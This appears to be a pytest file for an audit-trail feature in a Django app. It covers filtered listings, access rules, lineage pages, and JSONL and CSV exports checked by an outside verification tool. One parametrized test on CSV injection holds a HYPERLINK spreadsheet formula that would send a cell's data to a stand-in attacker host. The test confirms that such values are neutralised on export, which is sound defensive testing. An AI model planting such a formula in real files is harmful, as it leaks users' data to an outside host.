"""The auditor's workspace: the trail filtered, its verification state, lineage, and streamed
exports that tools/verify_export.py checks with the standard library alone."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

from memory_review.audit import checkpoints, verification
from memory_review.audit.models import VerificationRun
from memory_review.lifecycle import Actor, transition
from tests.conftest import TEST_AUDIT_KEY, TEST_AUDIT_KEY_ID
from tests.factories import flagged, make_memory

pytestmark = pytest.mark.django_db
TOOL = Path(__file__).resolve().parent.parent / "tools" / "verify_export.py"


@pytest.fixture
def history(acme, lead, policy):
    lead.first_name, lead.last_name = "Maria", "Chen"
    lead.save()
    memories = [flagged(acme, policy, subject=f"fact {i}") for i in range(4)]
    for memory in memories[:2]:
        transition(obj=memory, action="approve", actor=Actor.user(lead), reason="checked", seen_version=2)
    return memories


def export(client, query: str = "") -> str:
    response = client.get(f"/t/acme/audit/export.jsonl{query}")
    assert response.status_code == 200 and response.streaming
    return b"".join(response.streaming_content).decode()


def verify_outside(text: str, tmp_path, *args) -> subprocess.CompletedProcess:
    """The tool, run with no site-packages at all (python -S): the standard library only."""
    path = tmp_path / "export.jsonl"
    path.write_text(text)
    return subprocess.run(
        [
            sys.executable,
            "-S",
            str(TOOL),
            str(path),
            "--key",
            TEST_AUDIT_KEY,
            "--key-id",
            TEST_AUDIT_KEY_ID,
            *args,
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_the_trail_shows_every_move_with_names_and_filters_it(client, auditor, history):
    client.force_login(auditor)

    page = client.get("/t/acme/audit/")
    nobody = client.get("/t/acme/audit/", {"actor": "user:0"})

    assert page.status_code == 200
    assert [t.seq for t in page.context["listing"].rows] == [6, 5, 4, 3, 2, 1]
    table = page.content.decode().split('<table class="list trail">')[1].split("</table>")[0]
    assert "Maria Chen" in table and "policy v1" in table and "user:" not in table  # names, never ids
    assert nobody.status_code == 400  # an actor not in this trail is refused, not guessed at
    only_approvals = client.get("/t/acme/audit/", {"action": "approve"}).context["listing"].rows
    assert {t.action for t in only_approvals} == {"approve"} and len(only_approvals) == 2
    one = client.get("/t/acme/audit/", {"memory": history[0].pk}).context["listing"].rows
    assert {t.memory_id for t in one} == {history[0].pk}
    assert (
        client.get("/t/acme/audit/", {"subject": "fact 3"}).context["listing"].rows[0].memory_id
        == history[3].pk
    )


def test_bad_filters_are_a_400_that_names_them(client, auditor, history):
    client.force_login(auditor)
    response = client.get("/t/acme/audit/", {"since": "2026-12-01", "until": "2026-11-01", "memory": "x"})
    assert response.status_code == 400
    text = response.content.decode()
    assert "From must not be after Until" in text or "memory: Enter a whole number" in text


def test_the_verification_state_is_shown_and_can_be_rechecked(client, auditor, history, acme):
    client.force_login(auditor)
    assert "Not checked yet" in client.get("/t/acme/audit/").content.decode()
    checkpoints.write(acme)

    client.post("/t/acme/audit/verify/")
    run = VerificationRun.objects.get()
    assert verification.verification_run(acme.pk, run.pk) == "done"  # the worker's part

    text = client.get("/t/acme/audit/").content.decode()
    assert (
        "<strong>Intact</strong> when last checked" in text and "against the signed checkpoint at #6" in text
    )


def test_only_auditors_leads_and_admins_may_read_it(client, reviewer, labeler, lead, auditor, history):
    for user, status in ((reviewer, 403), (labeler, 403), (lead, 200), (auditor, 200)):
        client.force_login(user)
        assert client.get("/t/acme/audit/").status_code == status
        assert client.get("/t/acme/audit/export.jsonl").status_code == status


def test_another_tenants_trail_is_a_404(client, globex_lead, history):
    client.force_login(globex_lead)
    assert client.get("/t/acme/audit/").status_code == 404
    assert client.get(f"/t/acme/audit/memories/{history[0].pk}/").status_code == 404


def test_a_complete_export_verifies_outside_the_app_and_a_changed_byte_does_not(
    client, auditor, history, tmp_path
):
    client.force_login(auditor)
    text = export(client)
    header = json.loads(text.splitlines()[0])
    assert (header["complete"], header["head"]["seq"]) == (True, 6)

    good = verify_outside(text, tmp_path)
    bad = verify_outside(text.replace('"reason": "checked"', '"reason": "checkeD"', 1), tmp_path)
    forged = verify_outside(text.replace('"action": "approve"', '"action": "restore"', 1), tmp_path)
    short = verify_outside("\n".join(text.splitlines()[:-1]) + "\n", tmp_path)

    assert good.returncode == 0, good.stderr
    assert "all 6 rows verified, a complete chain up to its head #6" in good.stdout
    assert bad.returncode == 1 and "its reason was edited (it no longer matches its keyed hash)" in bad.stderr
    assert forged.returncode == 1 and "the row was edited or forged" in forged.stderr
    assert (
        short.returncode == 1
        and "the export ends at #5, but the chain's head it recorded is #6" in short.stderr
    )


def test_a_filtered_export_verifies_row_by_row(client, auditor, history, tmp_path):
    client.force_login(auditor)

    result = verify_outside(export(client, f"?memory={history[1].pk}"), tmp_path)

    assert result.returncode == 0, result.stderr
    assert "all 2 rows verified" in result.stdout


def test_the_tool_finds_the_key_as_the_app_does(client, auditor, history, tmp_path):
    client.force_login(auditor)
    path = tmp_path / "export.jsonl"
    path.write_text(export(client))
    keys = tmp_path / "keys.json"
    keys.write_text(json.dumps({"current": TEST_AUDIT_KEY_ID, "keys": {TEST_AUDIT_KEY_ID: TEST_AUDIT_KEY}}))

    from_file = subprocess.run(
        [sys.executable, "-S", str(TOOL), str(path), "--key-file", str(keys)], capture_output=True, text=True
    )
    from_env = subprocess.run(
        [sys.executable, "-S", str(TOOL), str(path)], capture_output=True, text=True,
        env={"AUDIT_KEY": TEST_AUDIT_KEY, "AUDIT_KEY_ID": TEST_AUDIT_KEY_ID, "PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    without = subprocess.run(
        [sys.executable, "-S", str(TOOL), str(path)], capture_output=True, text=True, cwd=tmp_path, env={}
    )

    assert from_file.returncode == 0 and from_env.returncode == 0
    assert without.returncode == 1 and "no audit key" in without.stderr


def test_the_csv_export_has_a_row_a_transition_with_its_hashes(client, auditor, history):
    client.force_login(auditor)
    response = client.get("/t/acme/audit/export.csv")
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert lines[0].startswith("tenant_id,seq,memory_id") and lines[0].endswith(
        "key_id,created_at,reason,request_id,erased_by,hash"
    )
    assert len(lines) == 7


def test_a_memorys_lineage_runs_from_its_evidence_through_its_versions_and_moves(
    client, auditor, acme, policy
):
    from memory_review.memories.services import event_record, memory_write

    first = make_memory(acme, subject="delivery")
    second = memory_write(
        event=event_record(tenant=acme, source="email", text="Front desk from now on."),
        kind="fact",
        subject="delivery",
        content="Front desk.",
        written_by="agent:x",
        supersedes=first,
        actor=Actor.policy("v1"),
    )
    client.force_login(auditor)

    page = client.get(f"/t/acme/audit/memories/{first.pk}/")

    lineage = page.context["lineage"]
    assert [v.pk for v in lineage.versions] == [first.pk, second.pk]
    assert [m.action for m in lineage.moves] == ["supersede"]
    assert first.source_event.text in page.content.decode()


def test_a_csv_export_verifies_outside_the_app_too(client, auditor, history, tmp_path):
    client.force_login(auditor)
    path = tmp_path / "audit.csv"
    path.write_bytes(b"".join(client.get("/t/acme/audit/export.csv").streaming_content))
    run = [sys.executable, "-S", str(TOOL), str(path), "--key", TEST_AUDIT_KEY, "--key-id", TEST_AUDIT_KEY_ID]

    good = subprocess.run(run, capture_output=True, text=True)
    path.write_text(path.read_text().replace(",checked,", ",Checked,", 1))
    bad = subprocess.run(run, capture_output=True, text=True)

    assert good.returncode == 0 and "all 6 rows verified" in good.stdout, good.stderr
    assert bad.returncode == 1 and "its reason was edited" in bad.stderr


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://evil.example/?d="&A1,"details")', "+1+1", "-2+3", "@SUM(A1:A9)", "'quoted"],
)
def test_a_reason_a_spreadsheet_would_run_is_exported_inert_and_still_verifies(
    client, auditor, lead, acme, typed, tmp_path
):
    """OWASP's CSV injection: a cell starting with = + - @ tab or CR gets a ' in front, and so does
    one starting with ' itself, so the tool reads every cell back exactly by dropping one."""
    import csv
    import io

    memory = make_memory(acme)
    transition(obj=memory, action="freeze", actor=Actor.user(lead), reason=typed, seen_version=1)
    client.force_login(auditor)
    exported = b"".join(client.get("/t/acme/audit/export.csv").streaming_content).decode()
    (path := tmp_path / "audit.csv").write_text(exported, newline="")

    rows = list(csv.DictReader(io.StringIO(exported)))
    verified = subprocess.run(
        [sys.executable, "-S", str(TOOL), str(path), "--key", TEST_AUDIT_KEY, "--key-id", TEST_AUDIT_KEY_ID],
        capture_output=True, text=True,
    )  # fmt: skip

    assert rows[-1]["reason"] == "'" + typed
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    assert verified.returncode == 0 and "all 1 rows verified" in verified.stdout, verified.stderr


def test_every_cell_a_spreadsheet_would_run_gets_a_quote_and_nothing_else_changes():
    from memory_review.audit.exports import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ("=1", "+1", "-1", "@a", "\tb", "\rc", "'d", "e=1", None, 7)] == [
        "'=1", "'+1", "'-1", "'@a", "'\tb", "'\rc", "''d", "e=1", "", "7",
    ]  # fmt: skip
